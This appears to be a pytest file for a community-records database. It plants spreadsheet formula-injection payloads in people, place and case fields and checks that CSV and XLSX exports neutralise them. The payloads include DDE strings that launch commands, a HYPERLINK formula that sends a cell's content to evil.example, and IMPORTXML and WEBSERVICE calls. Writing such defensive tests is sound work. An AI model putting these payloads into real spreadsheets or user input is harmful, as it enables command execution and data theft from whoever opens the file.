"""Whatever people are called and write, no table that is handed out holds a formula when it is opened again."""

import csv

import openpyxl
import pytest
from sqlalchemy import select, update

from core_db.cases.configured import CATEGORIES
from core_db.cases.model import CASES
from core_db.people.queries import PERSONS
from core_db.places import PLACES
from core_db.sheets.writing import harmless

PAYLOADS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u3000=1+1",
    "\ufeff=1+1", "\u200b=1+1", "\u2060@x", "＝1+1", "＋1", "－1", "＠x", "﹦1", "−1+1", "\x0b=1", "\u202e=1",
    '=HYPERLINK("http://evil.example/?"&A1,"点我")', "=cmd|' /C calc'!A0", "=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")",
    "+cmd|'/C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")",
    'a","=1+1', 'a";"=1+1', "a\n=1+1", "a\r\n=1+1", "{=1+1}", "|calc", "%0A=1", "=WEBSERVICE(\"http://x\")",
    "'=1+1", "<b>=1</b>", "http://evil.example", "mailto:a@b.example", "1e999", "00123", "TRUE",
)  # fmt: skip
#: Fields of people, by table: what is handed out, or stands in what is.
WORDS = (
    (PERSONS, PERSONS.c.name), (PLACES, PLACES.c.name), (PLACES, PLACES.c.label), (CASES, CASES.c.text),
    (CASES, CASES.c.place_label), (CASES, CASES.c.lead_name), (CATEGORIES, CATEGORIES.c.name_zh),
)  # fmt: skip
ALIVE = tuple("=+-@\t\r\n＝＋－＠")


@pytest.fixture
def planted(door, given):
    """The town, with the payloads for names and words wherever there are names and words."""
    residents = [given.resident(name=f"人{n}") for n in range(len(PAYLOADS))]
    for resident in residents[:12]:
        given.a_case(by=resident)
    door.write_now(_plant)


def _plant(session):
    for table, column in WORDS:
        (key,) = list(table.primary_key)[:1]
        ids = session.execute(select(key).order_by(key)).scalars().all()
        for n, one in enumerate(ids):
            session.execute(update(table).where(key == one).values({column: PAYLOADS[n % len(PAYLOADS)]}))


@pytest.mark.parametrize("ending", ["csv", "xlsx"])
@pytest.mark.parametrize("what", ["people", "cases", "places"])
def test_no_cell_of_what_is_handed_out_is_a_formula(at_home, planted, tmp_path, what, ending):
    said = at_home("export", what, f"out.{ending}", "--community", "310113008001", "--json")

    assert said.json["rows"] >= 9
    cells = CELLS[ending](tmp_path / f"out.{ending}")
    assert len(cells) > said.json["rows"]
    assert any("1+1" in str(cell) for cell in cells)


def _csv_cells(path):
    text = path.read_text("utf-8-sig")
    cells = [cell for row in csv.reader(text.splitlines(keepends=True)) for cell in row]
    assert [cell for cell in cells if cell.startswith(ALIVE)] == []
    # Everything is quoted, so that no program splits a cell at another sign.
    assert all(line.startswith('"') for line in text.splitlines()[:1])
    return cells


def _xlsx_cells(path):
    cells = [cell for row in openpyxl.load_workbook(path).active.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "n"}
    assert not any(cell.hyperlink for cell in cells)
    return [cell.value for cell in cells]


CELLS = {"csv": _csv_cells, "xlsx": _xlsx_cells}


@pytest.mark.parametrize("text", ["王阿姨", "12号101室", "a-b", "a=b", "1+1", "灯坏了\n=1"])
def test_what_is_harmless_stays_as_it_is(text):
    assert harmless(text) == text
